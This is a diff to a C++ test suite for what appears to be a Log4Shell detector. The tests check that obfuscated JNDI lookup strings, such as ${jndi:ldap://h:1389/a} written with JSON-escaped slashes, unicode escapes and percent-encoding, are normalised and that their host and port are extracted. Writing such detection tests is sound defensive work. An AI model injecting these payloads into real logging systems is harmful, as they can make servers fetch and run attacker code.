@@ -35,6 +35,11 @@ TEST(Lookups, EveryWayOfWritingOneIsSeenThrough) {
            Row{R"($\u007Bjndi:x})", "lookup 0 ${jndi:x}"},
            Row{R"(\\u0024\\u007Bjndi:x})", "lookup 0 ${jndi:x}"},
            Row{R"(\x24\x7bjndi:x})", "lookup 0 ${jndi:x}"},
+           Row{R"({"m":"${jndi:ldap:\/\/h:1389\/a}"})", "lookup 6 ${jndi:ldap://h:1389/a}"},
+           Row{R"(${jndi:ldap:\\/\\/h\\\/a})", "lookup 0 ${jndi:ldap://h/a}"},
+           Row{R"(\u0024{jndi:ldap:\/\/h\/a})", "lookup 0 ${jndi:ldap://h/a}"},
+           Row{R"(${jndi:ldap:%5C/%5C/h})", "lookup 0 ${jndi:ldap://h}"},
+           Row{R"({"p":"\/a\/b\\","q":"$ {"})", ""},
            Row{R"($\u0026lbrace;other})", "hidden 0 ${"},
            Row{"$&lbrace;other}", ""},
            Row{"WARN Error looking up JNDI resource [ldap://h/a]. x",
@@ -94,6 +99,16 @@ TEST(Lookups, TargetIsHostAndPort) {
     EXPECT_EQ(target.host, row.host);
     EXPECT_EQ(target.port, row.port);
   }
+}
+
+TEST(Hunt, JsonsSlashesAreSlashes) {
+  const HuntReport report =
+      hunt_bytes(as_bytes(R"({"ua":"${jndi:ldap:\/\/h.example:1389\/a}"})"), "app.json");
+  ASSERT_EQ(report.attempts.size(), 1U);
+  EXPECT_EQ(report.attempts[0].normal, "${jndi:ldap://h.example:1389/a}");
+  EXPECT_EQ(report.attempts[0].host, "h.example");
+  EXPECT_EQ(report.attempts[0].port, "1389");
+  EXPECT_EQ(report.attempts[0].column, 8U);
 }
 
 TEST(Hunt, PositionsAreThoseOfTheFile) {
